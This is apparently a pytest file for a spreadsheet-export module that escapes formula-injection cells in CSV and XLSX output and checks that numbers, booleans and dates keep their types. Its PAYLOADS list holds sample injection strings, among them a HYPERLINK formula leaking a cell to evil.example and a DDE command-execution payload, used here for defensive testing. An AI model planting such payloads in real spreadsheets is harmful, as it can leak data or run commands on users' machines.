"""Spreadsheet exports: no cell can start a formula; numbers, booleans and dates keep their type."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from calib.files import neutralize, neutralize_frame, write_csv, write_table, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": [*PAYLOADS, "plain, with a comma", None],
            "count": np.arange(9, dtype="int64") - 3,  # negative numbers stay numbers
            "share": [0.5, -1.25, np.nan, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "flag": [True, False] * 4 + [True],
            "day": pd.to_datetime(["2026-01-0" + str(k) for k in range(1, 10)]),
            "=header": ["ok"] * 9,
        }
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_could_start_a_formula_gets_an_apostrophe(payload):
    assert neutralize(payload) == "'" + payload


def test_other_values_are_untouched():
    for value in ("Meets", "a=b", "E0025", " =1", "", 3, -2.5, True, None):
        assert neutralize(value) == value


def test_frame_neutralizes_text_cells_and_headers_only(frame):
    safe = neutralize_frame(frame)
    assert safe["text"].iloc[:7].tolist() == ["'" + p for p in PAYLOADS]
    assert safe["text"].iloc[7] == "plain, with a comma" and pd.isna(safe["text"].iloc[8])
    assert list(safe.columns)[-1] == "'=header"
    assert safe["count"].dtype == "int64" and safe["count"].iloc[0] == -3
    assert frame["text"].iloc[0] == PAYLOADS[0]  # the input is not changed


def test_csv_cells_read_back_as_text_with_an_apostrophe(frame, tmp_path):
    path = write_csv(frame, tmp_path / "t.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][-1] == "'=header"
    assert [r[0] for r in rows[1:8]] == ["'" + p for p in PAYLOADS]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell), cell
    assert [r[1] for r in rows[1:4]] == ["-3", "-2", "-1"] and rows[2][2] == "-1.25"  # numbers, not text


def test_xlsx_cells_are_strings_never_formulas(frame, tmp_path):
    path = write_xlsx(frame, tmp_path / "t.xlsx", sheet="talent")
    book = openpyxl.load_workbook(path)
    sheet = book["talent"]
    header = [c.value for c in sheet[1]]
    assert header[-1] == "'=header"
    texts = [sheet.cell(row=r, column=1) for r in range(2, 9)]
    assert [c.value for c in texts] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]  # XML reads CR as LF
    assert all(c.data_type == "s" and c.value.startswith("'") for c in texts)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    counts = [sheet.cell(row=r, column=2).value for r in range(2, 11)]
    assert counts == list(range(-3, 6)) and all(isinstance(v, int) for v in counts)
    assert sheet.cell(row=3, column=3).value == -1.25 and sheet.cell(row=4, column=3).value is None
    assert sheet.cell(row=2, column=4).value is True
    assert sheet.cell(row=2, column=5).is_date and sheet.cell(row=2, column=5).value == dt.datetime(2026, 1, 1)
    with zipfile.ZipFile(path) as archive:  # no formula element anywhere in the workbook
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist())


def test_write_table_writes_both_atomically(frame, tmp_path):
    paths = write_table(frame, tmp_path / "out", "talent")
    assert [p.name for p in paths] == ["talent.csv", "talent.xlsx"]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["talent.csv", "talent.xlsx"]  # no temp files


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
